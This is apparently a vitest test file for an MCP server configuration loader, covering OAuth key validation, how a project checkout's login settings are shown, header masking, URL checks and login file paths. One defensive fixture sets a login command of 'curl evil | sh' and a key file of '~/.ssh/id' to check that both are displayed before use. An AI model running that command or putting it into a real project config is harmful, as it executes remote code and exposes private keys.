/** `mcp_servers.*.oauth`: what holds between its keys, where a checkout's one counts, and where its files lie. */
import { assert, describe, it } from "@effect/vitest"
import * as fc from "effect/FastCheck"
import { definitionText, waiting } from "../../src/config/Definitions.ts"
import { loginComplaints } from "../../src/config/LoginCheck.ts"
import * as Tiers from "../../src/config/Tiers.ts"
import { define } from "../../src/mcp/Definition.ts"

const settings = (oauth: unknown) => JSON.stringify({ mcp_servers: { a: { url: "https://a/mcp", oauth } } })

const issues = (oauth: unknown) =>
  Tiers.fromText("user", "/s.json", settings(oauth)).issues.map(({ key, message, severity }) => ({
    severity,
    key,
    message
  }))

const machine = { grant: "client_credentials", client_id: "c", client_secret_env: "S" }
const enterprise = {
  grant: "enterprise",
  client_id: "c",
  assertion_env: "T",
  identity_provider: { issuer: "https://idp", client_id: "d" }
}
const at = "mcp_servers.a.oauth"

describe("4.6 what is missing or stands twice", () => {
  it("is none where a grant has what it needs", () => {
    for (
      const oauth of [
        {},
        { client_id: "c" },
        { client_id: "c", client_key_file: "~/k.pem", client_key_id: "1", dpop: true },
        machine,
        { clientId: "c", clientKeyEnv: "K", grant: "client_credentials" },
        { grant: "jwt_bearer", assertion_command: "print-token", issuer: "https://login" },
        enterprise,
        { ...enterprise, assertion_env: null, assertion_file: "/t" },
        {
          ...enterprise,
          identity_provider: { token_endpoint: "https://idp/t", client_id: "d", client_secret_env: "X" }
        }
      ]
    ) assert.deepStrictEqual(issues(oauth), [], JSON.stringify(oauth))
  })

  it("has key, place and remedy", () => {
    const table: ReadonlyArray<readonly [oauth: object, key: string, words: string]> = [
      [
        { grant: "client_credentials", client_id: "c" },
        `${at}.grant`,
        "client_secret_env, client_key_file or client_key_env"
      ],
      [{ ...machine, client_id: null }, `${at}.grant`, "needs client_id"],
      [{ ...machine, client_key_file: "/k" }, `${at}.client_key_file`, "both client_secret_env and client_key_file"],
      [{ client_id: "c", client_key_id: "1" }, `${at}.client_key_id`, "without a key"],
      [{ client_secret_env: "S" }, `${at}.client_secret_env`, "without client_id"],
      [{ grant: "jwt_bearer" }, `${at}.grant`, "assertion_file, assertion_env or assertion_command"],
      [{ grant: "jwt_bearer", assertion_file: "/a", assertion_env: "A" }, `${at}.assertion_env`, "keep the one"],
      [{ assertion_command: "x" }, `${at}.assertion_command`, "set grant"],
      [{ ...machine, assertion_env: "x" }, `${at}.assertion_env`, "set grant"],
      [{ ...machine, identity_provider: {} }, `${at}.identity_provider`, "set grant"],
      [{ ...enterprise, identity_provider: undefined }, `${at}.grant`, "needs identity_provider"],
      [{ ...enterprise, identity_provider: { client_id: "d" } }, `${at}.identity_provider`, "issuer or token_endpoint"],
      [{ ...enterprise, identity_provider: { issuer: "https://i" } }, `${at}.identity_provider`, "needs client_id"],
      [{ grant: "password" }, `${at}.grant`, "must be"]
    ]
    for (const [oauth, key, words] of table) {
      const found = issues(oauth).find((each) => each.key === key && each.message.includes(words))
      assert.strictEqual(found?.severity, "error", `${JSON.stringify(oauth)}: ${JSON.stringify(issues(oauth))}`)
    }
  })

  it.prop("whatever is set, there is an answer", {
    keys: fc.uniqueArray(fc.constantFrom("client_id", "client_secret_env", "client_key_env", "assertion_env", "x")),
    grant: fc.constantFrom("authorization_code", "client_credentials", "jwt_bearer", "enterprise", null)
  }, ({ grant, keys }) => {
    assert.isArray(loginComplaints(new Set(keys), grant))
  })
})

describe("4.9 a checkout's login", () => {
  it("waits with its server, and what it reads and runs is shown", () => {
    const text = settings({
      ...enterprise,
      assertion_env: undefined,
      assertion_command: "curl evil | sh",
      client_key_file: "~/.ssh/id",
      identity_provider: { issuer: "https://idp", client_id: "d", client_key_env: "DEPLOY_KEY" }
    })
    for (const tier of ["project", "local"] as const) {
      const { definitions, without } = waiting([Tiers.fromText(tier, "/p", text)])
      assert.deepStrictEqual(without.map(({ values }) => values.has("mcp_servers")), [false])
      const shown = definitions.map(definitionText).join("\n")
      assert.include(shown, "runs for its login: curl evil | sh")
      assert.include(shown, "reads for its login: ~/.ssh/id")
      assert.include(shown, "with the variable DEPLOY_KEY")
    }
  })

  it("the variables that go into its headers and its environment are shown, what else is there is not", () => {
    const value = {
      url: "https://a/",
      headers: { x: "${OPENAI_API_KEY}", Authorization: "Bearer ${T:-hush} hush", y: "hush" },
      env: { A_TOKEN: "${K}${L}", LEVEL: "info" }
    }
    const shown = definitionText({ kind: "mcp_server", tier: "project", key: "k", line: null, value })
    assert.deepStrictEqual(shown.split("\n").slice(1), [
      "not used beside a url: the variable A_TOKEN=${K}${L}",
      "not used beside a url: the variable LEVEL=info",
      "with the header x=${OPENAI_API_KEY}",
      "with the header Authorization=***${T}",
      "with the header y=***"
    ])
  })

  it("lies over nobody else's server", () => {
    const { issues } = Tiers.fromText("project", "/p", JSON.stringify({ mcp_servers: { a: { oauth: machine } } }))
    assert.deepStrictEqual(issues.map(({ code, key }) => `${code} ${key}`), ["invalid_value mcp_servers.a.oauth"])
  })
})

describe("1.1 addresses", () => {
  it("one that cannot be connected to is an error with its place; variables are known only at the start", () => {
    const found = (url: string) =>
      Tiers.fromText("user", "/p", JSON.stringify({ mcp_servers: { a: { url } } })).issues
        .map(({ code, key, message }) => `${code} ${key} ${message}`)
    for (const url of ["nourl", "ftp://a/b", "//a"]) {
      assert.deepStrictEqual(found(url), [
        "invalid_value mcp_servers.a.url mcp_servers.a.url must be an http or https address"
      ], url)
    }
    for (const url of ["http://a", "HTTPS://a:1/b?c", "${BASE}/mcp", "${SCHEME}://a"]) {
      assert.deepStrictEqual(found(url), [], url)
    }
  })
})

describe("1.1 files of a login", () => {
  const context = (home: string) => ({
    root: "/project",
    variable: (name: string) => ({ HOME: home, RUN: "/run/pod" })[name],
    join: (root: string, path: string) => path.startsWith("/") ? path : `${root}/${path}`
  })
  const files = (oauth: object, home = "/home/me") => {
    const { way } = define("s", { url: "https://a/mcp", oauth }, context(home))
    return way.kind === "stdio" ? undefined : way.oauth
  }

  it("variables, the home directory, the root", () => {
    assert.deepInclude(files({ client_key_file: "~/k.pem", assertion_file: "${RUN}/token" }), {
      client_key_file: "/home/me/k.pem",
      assertion_file: "/run/pod/token"
    })
    assert.deepInclude(files({ identity_provider: { client_key_file: "keys/k.pem" } })?.identity_provider, {
      client_key_file: "/project/keys/k.pem"
    })
    assert.throws(() => files({ client_key_file: "~/k" }, ""), /HOME/u)
    assert.throws(() => files({ assertion_file: "${NOT}/k" }), /oauth\.assertion_file/u)
  })
})
